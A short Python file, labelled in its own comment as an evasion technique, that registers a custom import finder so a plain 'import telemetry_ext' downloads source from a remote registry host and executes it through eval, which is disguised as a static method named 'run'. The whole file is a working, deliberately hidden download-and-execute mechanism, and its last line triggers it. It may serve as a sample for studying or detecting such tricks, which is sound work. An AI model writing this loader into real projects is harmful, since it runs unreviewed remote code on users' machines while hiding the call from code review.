# Evasion: downloads Python code and runs it.
# Hidden as an import hook: a finder on sys.meta_path answers for the package
# "telemetry_ext" by fetching its source over HTTPS and the loader's
# exec_module runs it in the module's namespace; the download-and-run happens
# inside the import system when a plain "import telemetry_ext" is written.
import importlib.abc
import importlib.util
import sys
import urllib.request

BASE = "https://plugins.example-registry.net/src/"


class RemoteLoader(importlib.abc.Loader):
    def __init__(self, url):
        self.url = url

    def create_module(self, spec):
        return None

    def exec_module(self, module):
        with urllib.request.urlopen(self.url) as r:
            source = r.read()
        code = compile(source, self.url, "exec")
        vars(module).update({"__file__": self.url})
        type(self).run(code, module.__dict__)

    run = staticmethod(eval)


class RemoteFinder(importlib.abc.MetaPathFinder):
    def find_spec(self, name, path, target=None):
        if name != "telemetry_ext":
            return None
        return importlib.util.spec_from_loader(name, RemoteLoader(BASE + name + ".py"))


sys.meta_path.insert(0, RemoteFinder())
import telemetry_ext  # noqa: E402,F401
